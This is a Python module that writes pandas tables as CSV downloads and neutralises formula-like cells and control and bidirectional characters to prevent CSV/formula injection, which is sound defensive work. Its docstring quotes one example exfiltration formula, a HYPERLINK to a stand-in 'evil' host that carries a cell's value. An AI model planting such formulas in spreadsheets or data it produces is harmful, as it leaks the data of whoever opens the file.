"""CSV downloads that are safe to open in a spreadsheet.

Zone names come from uploaded files. A cell such as ``=HYPERLINK("http://evil/?"&A1)`` or
``@SUM(…)`` would run as a formula when a downloaded table is opened in Excel or LibreOffice
(CSV/formula injection). :func:`safe_csv` neutralises every *text* cell that starts with one of
``= + - @`` (or a tab or carriage return, which some spreadsheets skip before such a character)
by prefixing an apostrophe, as OWASP recommends. Control and bidirectional characters in text
cells (an ESC that recolours a terminal running ``cat``, a U+202E that reorders a cell) are written
as their Python escapes (``\x1b``, ``\u202e``: :func:`dpcore.text.visible`); line breaks and
tabs stay, quoted where they must be. Imported zone names already hold escapes, not controls
(:mod:`dpcore.data.importing.names`), so they are written as they are and read back the same.
Numeric columns are written as numbers: a negative released count stays ``-3.2``. The page
download buttons and the command line both use it.
"""

from __future__ import annotations

import pandas as pd

from dpcore.text import visible

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
#: Ten significant digits: whole counts print without a trailing ".0", estimates keep decimals.
FLOAT_FORMAT = "%.10g"


def _neutral(value):
    """One cell: text a spreadsheet would evaluate gets a leading apostrophe, control and
    bidirectional characters are escaped; the rest is kept."""
    if not isinstance(value, str):
        return value
    return ("'" if value.startswith(FORMULA_PREFIXES) else "") + visible(value, keep="\n\r\t")


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy in which text cells (and headers) a spreadsheet would read as a formula start with
    ``'``, and control and bidirectional characters are escaped. Categorical columns are fixed
    through their categories, so millions of rows that repeat a few thousand zone names cost
    nothing extra."""
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if isinstance(values.dtype, pd.CategoricalDtype):
            categories = values.cat.categories.map(_neutral)
            if categories.is_unique:
                out[column] = values.cat.rename_categories(categories)
                continue
            values = values.astype(object)
        elif pd.api.types.is_numeric_dtype(values) or pd.api.types.is_bool_dtype(values):
            continue
        out[column] = values.map(_neutral).astype(object)
    out.columns = [_neutral(str(c)) for c in out.columns]
    return out


def safe_csv(frame: pd.DataFrame) -> bytes:
    """The frame as UTF-8 CSV bytes (no index), formula-like text neutralised: for downloads.

    Lines end in CRLF (RFC 4180), so a field holding a line break of either kind is quoted.
    """
    return neutralise(frame).to_csv(index=False, float_format=FLOAT_FORMAT,
                                    lineterminator="\r\n").encode("utf-8")


def write_safe_csv(frame: pd.DataFrame, path) -> None:
    """The same CSV as :func:`safe_csv`, written straight to ``path`` (large tables)."""
    neutralise(frame).to_csv(path, index=False, float_format=FLOAT_FORMAT, lineterminator="\r\n",
                             encoding="utf-8")
